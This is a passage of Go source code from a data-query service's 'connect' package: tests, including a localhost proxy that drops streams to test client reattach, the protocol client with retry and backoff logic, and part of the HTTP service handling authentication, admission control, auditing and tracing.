	resp2, _ := http.DefaultClient.Do(req)
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusGone {
		t.Errorf("status = %d", resp2.StatusCode)
	}
}

func TestIdleSessionSweepNotifiesBackend(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	fb := &fakeBackend{schema: schema, batches: batches}
	svc, ts := newTestService(t, fb)
	now := time.Unix(1000, 0)
	svc.SetClock(func() time.Time { return now })
	resp, _ := execRaw(t, ts, "tok", "s1")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if svc.ActiveSessions() != 1 {
		t.Fatal("session not tracked")
	}
	now = now.Add(time.Hour)
	_, sessions := svc.SweepIdle(10 * time.Minute)
	if sessions != 1 || fb.closedSessions() != 1 {
		t.Fatalf("swept %d sessions, backend closed %d", sessions, fb.closedSessions())
	}
}

func TestAnalyzeEndpoint(t *testing.T) {
	schema, _ := intBatches()
	_, ts := newTestService(t, &fakeBackend{schema: schema})
	c := Dial(ts.URL, "tok")
	got, explain, err := c.AnalyzePlan(plan.NewUnresolvedRelation("t"))
	if err != nil {
		t.Fatal(err)
	}
	if got.Len() != 1 || got.Fields[0].Name != "n" {
		t.Errorf("schema = %v", got)
	}
	if !strings.Contains(explain, "UnresolvedRelation t") {
		t.Errorf("explain = %q", explain)
	}
}

func TestReleaseFreesOperation(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	svc, ts := newTestService(t, &fakeBackend{schema: schema, batches: batches})
	c := Dial(ts.URL, "tok")
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatal(err)
	}
	// Client auto-releases after successful collect.
	if _, ok := svc.OperationStateOf("op-1"); ok {
		t.Error("operation not released after collect")
	}
}

func TestDataFrameBuilderShapes(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	_, ts := newTestService(t, &fakeBackend{schema: schema, batches: batches})
	c := Dial(ts.URL, "tok")
	df := c.Table("main.default.sales").
		Where(Col("region").Eq(Lit("US")).And(Col("amount").Gt(Lit(10)))).
		Select(Col("seller"), Col("amount").Mul(Lit(2)).As("double"), "region").
		OrderBy(Col("double").Desc(), Col("seller").Asc()).
		Limit(7)
	explain := plan.Explain(df.Plan())
	for _, want := range []string{"Limit 7", "Sort", "Project", "Filter", "UnresolvedRelation main.default.sales", "double DESC"} {
		if !strings.Contains(explain, want) {
			t.Errorf("plan missing %q:\n%s", want, explain)
		}
	}
	// The captured plan round-trips through the wire format.
	data, err := proto.EncodePlan(df.Plan())
	if err != nil {
		t.Fatal(err)
	}
	back, err := proto.DecodePlan(data)
	if err != nil {
		t.Fatal(err)
	}
	if plan.Explain(back) != explain {
		t.Error("wire round trip changed the plan")
	}
}

func TestColumnDSL(t *testing.T) {
	cases := []struct {
		col  Column
		want string
	}{
		{Col("a").Add(Lit(1)), "(a + 1)"},
		{Col("a").Sub(Lit(1)).Mul(Lit(2)), "((a - 1) * 2)"},
		{Col("a").Div(Lit(2.0)), "(a / 2)"},
		{Col("a").Neq(Lit("x")), "(a <> 'x')"},
		{Col("a").Lte(Lit(5)).Or(Col("b").Gte(Lit(6))), "((a <= 5) OR (b >= 6))"},
		{Col("a").IsNull(), "(a IS NULL)"},
		{Col("a").IsNotNull(), "(a IS NOT NULL)"},
		{Col("a").Like("x%"), "(a LIKE 'x%')"},
		{Col("a").In(Lit(1), Lit(2)), "(a IN (1, 2))"},
		{Col("a").Cast("STRING"), "CAST(a AS STRING)"},
		{Col("a").Not(), "(NOT a)"},
		{CurrentUser(), "CURRENT_USER()"},
		{Sum(Col("x")), "SUM(x)"},
		{CountAll(), "COUNT(*)"},
		{Lit(true), "true"},
		{Lit(int64(9)), "9"},
	}
	for _, c := range cases {
		if got := c.col.Expr().String(); got != c.want {
			t.Errorf("DSL: got %s want %s", got, c.want)
		}
	}
}

func TestStartSweeper(t *testing.T) {
	schema, batches := intBatches([]int64{1})
	fb := &fakeBackend{schema: schema, batches: batches}
	svc, ts := newTestService(t, fb)
	resp, _ := execRaw(t, ts, "tok", "s-sweep")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	stop := svc.StartSweeper(5*time.Millisecond, 1*time.Nanosecond)
	defer stop()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if fb.closedSessions() > 0 {
			stop()
			stop() // double stop is safe
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatal("sweeper never swept the idle session")
}
