package connect

import (
	"net"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// flakyProxy forwards TCP bytes to a backend but cuts the connection after a
// byte budget — modeling the idle-connection terminations and dropped
// connections §3.2.2 says cloud load balancers inflict on long streams.
type flakyProxy struct {
	listener net.Listener
	backend  string
	// cutAfter is the per-connection byte budget for backend->client data;
	// 0 disables cutting. Only the first connection is cut (the retry must
	// succeed).
	cutAfter int64
	cuts     atomic.Int64
	first    atomic.Bool
}

func newFlakyProxy(t *testing.T, backend string, cutAfter int64) *flakyProxy {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p := &flakyProxy{listener: l, backend: backend, cutAfter: cutAfter}
	p.first.Store(true)
	go p.serve()
	t.Cleanup(func() { l.Close() })
	return p
}

func (p *flakyProxy) addr() string { return "http://" + p.listener.Addr().String() }

func (p *flakyProxy) serve() {
	for {
		client, err := p.listener.Accept()
		if err != nil {
			return
		}
		go p.handle(client)
	}
}

func (p *flakyProxy) handle(client net.Conn) {
	defer client.Close()
	server, err := net.Dial("tcp", p.backend)
	if err != nil {
		return
	}
	defer server.Close()
	// client -> server: unlimited.
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := client.Read(buf)
			if n > 0 {
				if _, werr := server.Write(buf[:n]); werr != nil {
					return
				}
			}
			if err != nil {
				return
			}
		}
	}()
	// server -> client: cut the first connection after the byte budget.
	cut := p.cutAfter > 0 && p.first.CompareAndSwap(true, false)
	var sent int64
	buf := make([]byte, 4096)
	for {
		n, err := server.Read(buf)
		if n > 0 {
			chunk := buf[:n]
			if cut && sent+int64(n) > p.cutAfter {
				chunk = buf[:p.cutAfter-sent]
			}
			if len(chunk) > 0 {
				if _, werr := client.Write(chunk); werr != nil {
					return
				}
				sent += int64(len(chunk))
			}
			if cut && sent >= p.cutAfter {
				p.cuts.Add(1)
				return // drop the connection mid-stream
			}
		}
		if err != nil {
			return
		}
	}
}

// TestClientSurvivesDroppedStream runs a large result through a proxy that
// drops the first response mid-stream; the client must reattach and deliver
// the complete result.
func TestClientSurvivesDroppedStream(t *testing.T) {
	// Many batches so the stream is large enough to cut partway.
	groups := make([][]int64, 40)
	for i := range groups {
		vals := make([]int64, 64)
		for j := range vals {
			vals[j] = int64(i*64 + j)
		}
		groups[i] = vals
	}
	schema, batches := intBatches(groups...)
	fb := &fakeBackend{schema: schema, batches: batches}
	svc := NewService(fb, TokenMap{"tok": "user@x"})
	ts := httptest.NewServer(svc.Handler())
	defer ts.Close()

	backendAddr := strings.TrimPrefix(ts.URL, "http://")
	proxy := newFlakyProxy(t, backendAddr, 6000) // cut the first response early

	// The client dials through the proxy for execute; its reattach request
	// opens a NEW connection (the proxy only cuts the first), so recovery
	// succeeds.
	c := Dial(proxy.addr(), "tok")
	b, err := c.Sql("SELECT n FROM t").Collect()
	if err != nil {
		t.Fatalf("collect through flaky proxy: %v", err)
	}
	if b.NumRows() != 40*64 {
		t.Fatalf("rows = %d, want %d", b.NumRows(), 40*64)
	}
	for i := 0; i < b.NumRows(); i++ {
		if b.Cols[0].Int64(i) != int64(i) {
			t.Fatalf("row %d corrupted after reattach: %d", i, b.Cols[0].Int64(i))
		}
	}
	if proxy.cuts.Load() == 0 {
		t.Fatal("proxy never cut the stream; test exercised nothing")
	}
}

// TestClientFailsCleanlyWithoutReattachTarget drops the stream before the
// operation header arrives, so no reattach is possible; the client must
// return an error, not a truncated result.
func TestClientFailsCleanlyWhenHeadersLost(t *testing.T) {
	schema, batches := intBatches([]int64{1, 2, 3})
	fb := &fakeBackend{schema: schema, batches: batches}
	svc := NewService(fb, TokenMap{"tok": "user@x"})
	ts := httptest.NewServer(svc.Handler())
	defer ts.Close()
	proxy := newFlakyProxy(t, strings.TrimPrefix(ts.URL, "http://"), 10) // cut inside the header
	c := Dial(proxy.addr(), "tok")
	if _, err := c.Sql("SELECT n FROM t").Collect(); err == nil {
		t.Fatal("expected an error when the response is cut before headers")
	}
}
