package connect

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"lakeguard/internal/arrowipc"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/types"
)

var clientSeq atomic.Int64

// Client is the Connect protocol client: it holds a session against an
// endpoint and lowers DataFrame operations into serialized plans.
type Client struct {
	baseURL     string
	token       string
	sessionID   string
	workloadEnv string
	timeout     time.Duration
	maxRetries  int
	sleep       func(time.Duration)
	http        *http.Client
}

// Dial creates a client with a fresh session id. The client keeps a pool of
// idle connections sized for concurrent in-session queries (the stdlib
// default of 2 idle connections per host churns TCP under parallel load).
func Dial(baseURL, token string) *Client {
	tr := http.DefaultTransport.(*http.Transport).Clone()
	tr.MaxIdleConnsPerHost = 64
	return &Client{
		baseURL:    baseURL,
		token:      token,
		sessionID:  fmt.Sprintf("sess-%d", clientSeq.Add(1)),
		maxRetries: 3,
		sleep:      time.Sleep,
		http:       &http.Client{Transport: tr},
	}
}

// DialSession attaches with an explicit session id (session resumption).
func DialSession(baseURL, token, sessionID string) *Client {
	c := Dial(baseURL, token)
	c.sessionID = sessionID
	return c
}

// SessionID returns the client's session id.
func (c *Client) SessionID() string { return c.sessionID }

// SetWorkloadEnv pins all subsequent executions to a versioned Workload
// Environment (paper §6.3). Empty selects the server default.
func (c *Client) SetWorkloadEnv(env string) { c.workloadEnv = env }

// SetTimeout bounds every subsequent execution's server-side wall-clock
// time: the deadline travels with the request and propagates through the
// backend into sandbox crossings and eFGAC submissions (0 = no deadline).
func (c *Client) SetTimeout(d time.Duration) { c.timeout = d }

// SetMaxRetries bounds how many times an execution is retried after the
// server sheds it with 429 Too Many Requests (0 = fail fast, default 3).
func (c *Client) SetMaxRetries(n int) {
	if n < 0 {
		n = 0
	}
	c.maxRetries = n
}

func (c *Client) newRequest(method, path string, body []byte) (*http.Request, error) {
	req, err := http.NewRequest(method, c.baseURL+path, bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Authorization", "Bearer "+c.token)
	req.Header.Set("X-Session-Id", c.sessionID)
	if c.timeout > 0 {
		req.Header.Set(TimeoutHeader, strconv.FormatInt(c.timeout.Milliseconds(), 10))
	}
	return req, nil
}

// OverloadedError reports that the server shed the request under multi-tenant
// admission control (HTTP 429). RetryAfter is the server's backoff hint.
type OverloadedError struct {
	RetryAfter time.Duration
	Msg        string
}

func (e *OverloadedError) Error() string { return e.Msg }

func decodeHTTPError(resp *http.Response) error {
	var payload struct {
		Error string `json:"error"`
	}
	data, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	msg := fmt.Sprintf("connect: HTTP %d", resp.StatusCode)
	if json.Unmarshal(data, &payload) == nil && payload.Error != "" {
		msg = payload.Error
	}
	if resp.StatusCode == http.StatusTooManyRequests {
		return &OverloadedError{RetryAfter: retryAfterHint(resp), Msg: msg}
	}
	return errors.New(msg)
}

// retryAfterHint reads the shed backoff hint, preferring the millisecond
// header over the seconds-granularity standard one.
func retryAfterHint(resp *http.Response) time.Duration {
	if v := resp.Header.Get(RetryAfterMillisHeader); v != "" {
		if ms, err := strconv.ParseInt(v, 10, 64); err == nil && ms > 0 {
			return time.Duration(ms) * time.Millisecond
		}
	}
	if v := resp.Header.Get("Retry-After"); v != "" {
		if secs, err := strconv.ParseInt(v, 10, 64); err == nil && secs > 0 {
			return time.Duration(secs) * time.Second
		}
	}
	return 100 * time.Millisecond
}

// backoffFor turns a server Retry-After hint into a jittered sleep for the
// given retry attempt (0-based): exponential growth capped at 2s, with the
// upper half randomized so synchronized clients do not re-stampede.
func backoffFor(hint time.Duration, attempt int) time.Duration {
	d := hint << uint(attempt)
	if max := 2 * time.Second; d > max || d <= 0 {
		d = 2 * time.Second
	}
	return d/2 + time.Duration(rand.Int63n(int64(d/2)+1))
}

// ExecutePlan sends a root plan and collects the streamed result. If the
// stream is interrupted mid-read, the client reattaches to the operation and
// resumes from the last received batch. A request shed by admission control
// (429) is retried with jittered exponential backoff up to SetMaxRetries
// times, honoring the server's Retry-After hint.
func (c *Client) ExecutePlan(pl *proto.Plan) (*types.Batch, error) {
	if pl.WorkloadEnv == "" {
		pl.WorkloadEnv = c.workloadEnv
	}
	body, err := proto.EncodeRootPlan(pl)
	if err != nil {
		return nil, err
	}
	for attempt := 0; ; attempt++ {
		batch, err := c.executePlanOnce(body)
		var oe *OverloadedError
		if err == nil || !errors.As(err, &oe) || attempt >= c.maxRetries {
			return batch, err
		}
		c.sleep(backoffFor(oe.RetryAfter, attempt))
	}
}

func (c *Client) executePlanOnce(body []byte) (*types.Batch, error) {
	req, err := c.newRequest(http.MethodPost, "/v1/execute", body)
	if err != nil {
		return nil, err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	opID := resp.Header.Get("X-Operation-Id")
	if resp.StatusCode != http.StatusOK {
		return nil, decodeHTTPError(resp)
	}
	schema, batches, streamErr := readBatchStream(resp.Body)
	if streamErr != nil && opID != "" {
		// Reattach once from where we left off (idle-connection
		// termination tolerance, §3.2.2).
		schema2, rest, err2 := c.reattach(opID, len(batches))
		if err2 != nil {
			return nil, fmt.Errorf("connect: stream interrupted (%v) and reattach failed: %w", streamErr, err2)
		}
		if schema == nil {
			schema = schema2
		}
		batches = append(batches, rest...)
	} else if streamErr != nil {
		return nil, streamErr
	}
	defer c.release(opID)
	if schema == nil {
		schema = &types.Schema{}
	}
	return arrowipc.ConcatBatches(schema, batches)
}

func (c *Client) reattach(opID string, start int) (*types.Schema, []*types.Batch, error) {
	req, err := c.newRequest(http.MethodGet,
		"/v1/reattach?operation="+opID+"&start="+strconv.Itoa(start), nil)
	if err != nil {
		return nil, nil, err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return nil, nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, nil, decodeHTTPError(resp)
	}
	return readBatchStream(resp.Body)
}

func (c *Client) release(opID string) {
	if opID == "" {
		return
	}
	req, err := c.newRequest(http.MethodPost, "/v1/release?operation="+opID, nil)
	if err != nil {
		return
	}
	if resp, err := c.http.Do(req); err == nil {
		resp.Body.Close()
	}
}

// readBatchStream decodes an arrowipc stream, returning whatever was
// received plus the error that interrupted it (nil on clean end).
func readBatchStream(r io.Reader) (*types.Schema, []*types.Batch, error) {
	rd, err := arrowipc.NewReader(r)
	if err != nil {
		return nil, nil, err
	}
	var batches []*types.Batch
	for {
		b, err := rd.Next()
		if errors.Is(err, io.EOF) {
			return rd.Schema(), batches, nil
		}
		if err != nil {
			return rd.Schema(), batches, err
		}
		batches = append(batches, b)
	}
}

// AnalyzePlan returns the schema and (redacted) EXPLAIN text of a relation.
func (c *Client) AnalyzePlan(rel plan.Node) (*types.Schema, string, error) {
	return c.analyzePlan("/v1/analyze", rel)
}

// AnalyzePlanVerified returns the schema and the sentinel-annotated EXPLAIN
// showing which static security invariant cleared each policy operator.
func (c *Client) AnalyzePlanVerified(rel plan.Node) (*types.Schema, string, error) {
	return c.analyzePlan("/v1/analyzeVerified", rel)
}

func (c *Client) analyzePlan(path string, rel plan.Node) (*types.Schema, string, error) {
	body, err := proto.EncodePlan(rel)
	if err != nil {
		return nil, "", err
	}
	req, err := c.newRequest(http.MethodPost, path, body)
	if err != nil {
		return nil, "", err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return nil, "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, "", decodeHTTPError(resp)
	}
	var payload struct {
		Fields []struct {
			Name     string `json:"name"`
			Kind     uint8  `json:"kind"`
			Nullable bool   `json:"nullable"`
		} `json:"fields"`
		Explain string `json:"explain"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&payload); err != nil {
		return nil, "", err
	}
	schema := &types.Schema{}
	for _, f := range payload.Fields {
		schema.Fields = append(schema.Fields, types.Field{
			Name: f.Name, Kind: types.Kind(f.Kind), Nullable: f.Nullable,
		})
	}
	return schema, payload.Explain, nil
}

// ExplainAnalyze executes a plan with profiling enabled and returns the
// annotated operator tree (per-operator wall time, rows, batches, and
// vectorized-vs-row-fallback counts) plus the result row count.
func (c *Client) ExplainAnalyze(pl *proto.Plan) (analyze string, rows int, err error) {
	body, err := proto.EncodeRootPlan(pl)
	if err != nil {
		return "", 0, err
	}
	req, err := c.newRequest(http.MethodPost, "/v1/executeAnalyze", body)
	if err != nil {
		return "", 0, err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return "", 0, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return "", 0, decodeHTTPError(resp)
	}
	var payload struct {
		Analyze string `json:"analyze"`
		Rows    int    `json:"rows"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&payload); err != nil {
		return "", 0, err
	}
	return payload.Analyze, payload.Rows, nil
}

// Close ends the session server-side.
func (c *Client) Close() error {
	req, err := c.newRequest(http.MethodPost, "/v1/closeSession", nil)
	if err != nil {
		return err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return err
	}
	resp.Body.Close()
	return nil
}

// --- convenience entry points ---

// Sql builds a DataFrame over a SQL query (composable relation).
func (c *Client) Sql(query string) *DataFrame {
	return &DataFrame{client: c, node: &plan.SQLRelation{Query: query}}
}

// Table builds a DataFrame over a catalog table or view ("t", "schema.t",
// or "catalog.schema.t").
func (c *Client) Table(name string) *DataFrame {
	return &DataFrame{client: c, node: plan.NewUnresolvedRelation(strings.Split(name, ".")...)}
}

// CreateDataFrame builds a DataFrame from local rows.
func (c *Client) CreateDataFrame(schema *types.Schema, rows [][]types.Value) *DataFrame {
	bb := types.NewBatchBuilder(schema, len(rows))
	for _, r := range rows {
		bb.AppendRow(r)
	}
	return &DataFrame{client: c, node: &plan.LocalRelation{Data: bb.Build()}}
}

// SqlExplainAnalyze executes a SQL query with EXPLAIN ANALYZE profiling and
// returns the annotated operator tree plus the result row count.
func (c *Client) SqlExplainAnalyze(query string) (analyze string, rows int, err error) {
	return c.ExplainAnalyze(&proto.Plan{Relation: &plan.SQLRelation{Query: query}})
}

// ExecSQL runs a SQL statement as a command (DDL, DML, GRANT...).
func (c *Client) ExecSQL(statement string) (*types.Batch, error) {
	return c.ExecutePlan(&proto.Plan{Command: &proto.Command{SQL: statement}})
}

// RegisterFunction registers a session-scoped PyLite UDF owned by the
// session user.
func (c *Client) RegisterFunction(name string, params []types.Field, returns types.Kind, body string) error {
	return c.RegisterResourceFunction(name, params, returns, "", body)
}

// RegisterResourceFunction registers a session UDF that must execute in a
// specialized environment (e.g. "gpu") — paper §3.3.
func (c *Client) RegisterResourceFunction(name string, params []types.Field, returns types.Kind, resources, body string) error {
	_, err := c.ExecutePlan(&proto.Plan{Command: &proto.Command{
		RegisterFunction: &proto.RegisterFunction{Name: name, Params: params, Returns: returns, Body: body, Resources: resources},
	}})
	return err
}
