package connect

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"lakeguard/internal/admission"
	"lakeguard/internal/arrowipc"
	"lakeguard/internal/audit"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Backend executes decoded plans. Implemented by the Lakeguard core (single
// cluster) and by the serverless gateway (fleet routing).
type Backend interface {
	// Execute runs a root plan for (session, user) and returns the result
	// schema and batches. ctx carries the caller's deadline into sandbox
	// crossings and remote execution.
	Execute(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error)
	// Analyze resolves a relation and returns its schema and an EXPLAIN
	// rendering (redacted across SecureView barriers).
	Analyze(sessionID, user string, rel plan.Node) (*types.Schema, string, error)
	// CloseSession releases session state (temp views, sandboxes).
	CloseSession(sessionID string)
}

// VerifiedExplainer is an optional Backend extension: an EXPLAIN whose
// rendering annotates each policy operator with the sentinel invariants that
// cleared it (the `--explain-verified` surface). Backends without static
// verification simply do not implement it.
type VerifiedExplainer interface {
	AnalyzeVerified(sessionID, user string, rel plan.Node) (*types.Schema, string, error)
}

// AnalyzeExecutor is an optional Backend extension: EXPLAIN ANALYZE — run
// the query through the full governance pipeline and return the result with
// an annotated operator profile (wall time, rows, batches, vectorization).
type AnalyzeExecutor interface {
	ExecuteAnalyze(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Batch, string, error)
}

// Authenticator maps bearer tokens to user identities.
type Authenticator interface {
	Authenticate(token string) (user string, err error)
}

// TokenMap is a static token table (tests and examples).
type TokenMap map[string]string

// Authenticate implements Authenticator.
func (m TokenMap) Authenticate(token string) (string, error) {
	if user, ok := m[token]; ok {
		return user, nil
	}
	return "", errors.New("connect: invalid token")
}

// OperationState tracks one execution's lifecycle.
type OperationState string

// Operation states.
const (
	OpRunning    OperationState = "RUNNING"
	OpDone       OperationState = "DONE"
	OpFailed     OperationState = "FAILED"
	OpTombstoned OperationState = "TOMBSTONED"
)

type operation struct {
	id         string
	sessionID  string
	state      OperationState
	schema     *types.Schema
	batches    []*types.Batch
	errMsg     string
	lastAccess time.Time
}

// Service is the Connect endpoint: it terminates HTTP, authenticates,
// manages sessions and operations, and delegates plan execution to the
// Backend.
type Service struct {
	backend Backend
	auth    Authenticator
	clock   func() time.Time
	// tracer, when set, mints one trace per /v1/execute query; the trace ID
	// is echoed to the client in the X-Trace-Id response header.
	tracer *telemetry.Tracer
	// admit, when set, gates /v1/execute and /v1/executeAnalyze behind the
	// multi-tenant admission controller (nil admits everything).
	admit *admission.Controller
	// auditLog, when set, records one ADMISSION_SHED event per shed request.
	auditLog *audit.Log

	mu         sync.Mutex
	operations map[string]*operation
	sessions   map[string]time.Time // last activity
	opSeq      int64
}

// NewService creates a Connect service.
func NewService(backend Backend, auth Authenticator) *Service {
	return &Service{
		backend: backend, auth: auth, clock: time.Now,
		operations: map[string]*operation{},
		sessions:   map[string]time.Time{},
	}
}

// SetClock overrides the time source (tests).
func (s *Service) SetClock(clock func() time.Time) { s.clock = clock }

// SetTracer enables per-query distributed tracing: each /v1/execute and
// /v1/executeAnalyze request becomes one trace rooted at the service entry.
func (s *Service) SetTracer(t *telemetry.Tracer) { s.tracer = t }

// SetAdmission gates query execution behind a multi-tenant admission
// controller: shed requests are rejected with 429 + Retry-After before any
// backend work — no plan decode, no sandbox slot, no storage I/O.
func (s *Service) SetAdmission(c *admission.Controller) { s.admit = c }

// SetAudit records admission shed decisions (one ADMISSION_SHED event each)
// on the given audit log.
func (s *Service) SetAudit(log *audit.Log) { s.auditLog = log }

// RetryAfterMillisHeader carries the shed Retry-After hint at millisecond
// precision alongside the standard seconds-granularity Retry-After header.
const RetryAfterMillisHeader = "X-Retry-After-Millis"

// admitRequest runs the admission controller for one request. On a shed it
// writes the 429 response (Retry-After + X-Retry-After-Millis) and audits the
// decision exactly once; on a queue timeout or injected admission fault it
// writes 503. The caller must stop when err != nil and Release the returned
// ticket when done otherwise.
func (s *Service) admitRequest(ctx context.Context, w http.ResponseWriter, sessionID, user string) (*admission.Ticket, error) {
	ticket, err := s.admit.Acquire(ctx, user)
	if err == nil {
		return ticket, nil
	}
	var oe *admission.OverloadedError
	if errors.As(err, &oe) {
		if s.auditLog != nil {
			s.auditLog.Record(audit.Event{
				User: user, SessionID: sessionID, Action: "ADMISSION_SHED",
				Securable: "gateway", Decision: audit.DecisionDeny,
				Reason:  fmt.Sprintf("%s (retry after %v)", oe.Reason, oe.RetryAfter),
				TraceID: telemetry.TraceIDFrom(ctx),
			})
		}
		secs := int64(oe.RetryAfter+time.Second-1) / int64(time.Second)
		if secs < 1 {
			secs = 1
		}
		ms := oe.RetryAfter.Milliseconds()
		if ms < 1 {
			ms = 1
		}
		w.Header().Set("Retry-After", strconv.FormatInt(secs, 10))
		w.Header().Set(RetryAfterMillisHeader, strconv.FormatInt(ms, 10))
		writeError(w, http.StatusTooManyRequests, err)
		return nil, err
	}
	writeError(w, http.StatusServiceUnavailable, err)
	return nil, err
}

// Handler returns the HTTP handler implementing the protocol.
func (s *Service) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/execute", s.handleExecute)
	mux.HandleFunc("/v1/executeAnalyze", s.handleExecuteAnalyze)
	mux.HandleFunc("/v1/analyze", s.handleAnalyze)
	mux.HandleFunc("/v1/analyzeVerified", s.handleAnalyzeVerified)
	mux.HandleFunc("/v1/reattach", s.handleReattach)
	mux.HandleFunc("/v1/release", s.handleRelease)
	mux.HandleFunc("/v1/closeSession", s.handleCloseSession)
	return mux
}

func (s *Service) authenticate(r *http.Request) (user, sessionID string, err error) {
	token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	if token == "" {
		return "", "", errors.New("connect: missing bearer token")
	}
	user, err = s.auth.Authenticate(token)
	if err != nil {
		return "", "", err
	}
	sessionID = r.Header.Get("X-Session-Id")
	if sessionID == "" {
		return "", "", errors.New("connect: missing X-Session-Id")
	}
	// Sessions are bound to the authenticating user: one user cannot attach
	// to another user's session id, because session state keys include the
	// user identity.
	return user, user + "/" + sessionID, nil
}

func writeError(w http.ResponseWriter, status int, err error) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(map[string]string{"error": err.Error()})
}

func (s *Service) touchSession(sessionID string) {
	s.mu.Lock()
	s.sessions[sessionID] = s.clock()
	s.mu.Unlock()
}

func (s *Service) handleExecute(w http.ResponseWriter, r *http.Request) {
	user, sessionID, err := s.authenticate(r)
	if err != nil {
		writeError(w, http.StatusUnauthorized, err)
		return
	}
	s.touchSession(sessionID)
	ctx, cancel := requestContext(r)
	defer cancel()
	ctx, root := s.startTrace(ctx, w, sessionID, user)

	// Admission runs before the body is even read: a shed request costs
	// microseconds and never touches the plan decoder or a sandbox slot.
	ticket, err := s.admitRequest(ctx, w, sessionID, user)
	if err != nil {
		root.EndErr(err)
		return
	}
	defer ticket.Release()
	if qw := ticket.QueueWait(); qw > 0 {
		ctx = telemetry.ContextWithQueueWait(ctx, qw)
	}

	body, err := io.ReadAll(io.LimitReader(r.Body, 64<<20))
	if err != nil {
		root.EndErr(err)
		writeError(w, http.StatusBadRequest, err)
		return
	}
	pl, err := proto.DecodeRootPlan(body)
	if err != nil {
		root.EndErr(err)
		writeError(w, http.StatusBadRequest, err)
		return
	}

	s.mu.Lock()
	s.opSeq++
	op := &operation{
		id:         fmt.Sprintf("op-%d", s.opSeq),
		sessionID:  sessionID,
		state:      OpRunning,
		lastAccess: s.clock(),
	}
	s.operations[op.id] = op
	s.mu.Unlock()

	schema, batches, err := s.backend.Execute(ctx, sessionID, user, pl)
	root.EndErr(err)
	s.mu.Lock()
	if err != nil {
		op.state = OpFailed
		op.errMsg = err.Error()
		s.mu.Unlock()
		w.Header().Set("X-Operation-Id", op.id)
		writeError(w, http.StatusBadRequest, err)
		return
	}
	op.state = OpDone
	op.schema = schema
	op.batches = batches
	s.mu.Unlock()

	w.Header().Set("X-Operation-Id", op.id)
	s.streamBatches(w, op, 0)
}

// startTrace mints a trace for one query when tracing is enabled. The root
// span covers the whole server-side request; its ID is echoed in the
// X-Trace-Id response header so clients can correlate with /debug/queries
// and the audit log.
func (s *Service) startTrace(ctx context.Context, w http.ResponseWriter, sessionID, user string) (context.Context, *telemetry.Span) {
	if s.tracer == nil {
		return ctx, nil
	}
	ctx, root := s.tracer.StartTrace(ctx, "query")
	root.SetAttr("user", user)
	root.SetAttr("session", sessionID)
	w.Header().Set("X-Trace-Id", root.TraceID())
	return ctx, root
}

func (s *Service) handleExecuteAnalyze(w http.ResponseWriter, r *http.Request) {
	ae, ok := s.backend.(AnalyzeExecutor)
	if !ok {
		writeError(w, http.StatusNotImplemented, errors.New("connect: backend does not support EXPLAIN ANALYZE"))
		return
	}
	user, sessionID, err := s.authenticate(r)
	if err != nil {
		writeError(w, http.StatusUnauthorized, err)
		return
	}
	s.touchSession(sessionID)
	ctx, cancel := requestContext(r)
	defer cancel()
	ctx, root := s.startTrace(ctx, w, sessionID, user)
	ticket, err := s.admitRequest(ctx, w, sessionID, user)
	if err != nil {
		root.EndErr(err)
		return
	}
	defer ticket.Release()
	if qw := ticket.QueueWait(); qw > 0 {
		ctx = telemetry.ContextWithQueueWait(ctx, qw)
	}
	body, err := io.ReadAll(io.LimitReader(r.Body, 64<<20))
	if err != nil {
		root.EndErr(err)
		writeError(w, http.StatusBadRequest, err)
		return
	}
	pl, err := proto.DecodeRootPlan(body)
	if err != nil {
		root.EndErr(err)
		writeError(w, http.StatusBadRequest, err)
		return
	}
	batch, analyze, err := ae.ExecuteAnalyze(ctx, sessionID, user, pl)
	root.EndErr(err)
	if err != nil {
		writeError(w, http.StatusBadRequest, err)
		return
	}
	resp := struct {
		Analyze string `json:"analyze"`
		Rows    int    `json:"rows"`
	}{Analyze: analyze}
	if batch != nil {
		resp.Rows = batch.NumRows()
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(resp)
}

// TimeoutHeader carries the client's per-query deadline in milliseconds; the
// service turns it into a context deadline flowing through the backend into
// sandbox crossings and eFGAC submissions.
const TimeoutHeader = "X-Timeout-Millis"

// requestContext derives the execution context from the HTTP request: the
// connection's own context (client disappearance) plus the optional
